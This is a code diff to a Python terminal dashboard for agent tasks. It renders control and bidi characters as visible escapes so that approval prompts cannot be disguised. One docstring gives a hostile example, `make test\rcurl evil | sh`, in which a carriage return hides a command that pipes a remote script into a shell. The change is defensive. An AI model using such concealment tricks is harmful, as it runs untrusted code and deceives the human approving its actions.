@@ -7,6 +7,7 @@ from dataclasses import dataclass
 
 from core.mirror import Mirror
 from core.model import BlockedReason, Prompt, Task, TaskStatus, Verdict
+from core.text import printable_lines
 
 STATUS_ORDER: tuple[TaskStatus, ...] = (
     TaskStatus.QUEUED,
@@ -25,6 +26,26 @@ STATUS_LABELS: dict[TaskStatus, str] = {
     TaskStatus.FAILED: "failed",
 }
 """Short words for the status bar and detail pane."""
+
+
+TAB_SIZE = 4
+"""Columns of a tab stop: a tab in a command or a diff is drawn as spaces."""
+
+
+def shown(text: str) -> str:
+    """Text from the daemon as the dashboard draws it: line breaks kept, tabs as spaces,
+    every other control or bidi character a visible escape (`\\r`, `\\x1b`, `\\u202e`).
+
+    Drawn raw, a carriage return or an escape sequence in a question is obeyed by the
+    terminal: `make test\\rcurl evil | sh` could read as `make test` right where it is
+    approved. A tab is layout, not a disguise, and reads better as the spaces it stands for.
+    """
+    return printable_lines(text.expandtabs(TAB_SIZE))
+
+
+def shown_line(text: str) -> str:
+    """`shown` on one line: each run of spaces and line breaks becomes one space."""
+    return " ".join(shown(text).split())
 
 
 def is_asking(task: Task) -> bool:
@@ -124,9 +145,9 @@ def choice_hint(choices: list[str]) -> str:
             return f"[{key}]{word[1:]}"
         return f"[{key}] {word}"
 
-    parts = [keyed("a", choices[0])]
+    parts = [keyed("a", shown_line(choices[0]))]
     if len(choices) > 1:
-        parts.append(keyed("d", choices[-1]))
+        parts.append(keyed("d", shown_line(choices[-1])))
     if len(choices) > 2:
         parts.append(f"[1-{min(len(choices), 9)}]")
     parts.append("[r]eply")
@@ -172,7 +193,8 @@ class TreeView:
         self.hide_finished = False
         """Hide ended tasks whose whole subtree has ended."""
         self.filter_text = ""
-        """Show only tasks whose id, agent, status or description contain this (and their ancestors)."""
+        """Show only tasks whose id, agent, status or description contain this (and their
+        ancestors), matched against the text as drawn (`shown`)."""
         self.rows: list[Row] = []
         self.index: dict[int, int] = {}
         """Row index by task id, for visible tasks."""
@@ -271,7 +293,7 @@ class TreeView:
                 hay += " " + task.blocked_on.question.lower()
                 if task.blocked_on.summary:
                     hay += " " + task.blocked_on.summary.lower()
-            if needle not in hay:
+            if needle not in shown(hay):  # the text as drawn: `\r` finds a carriage return
                 return False
         return True
 
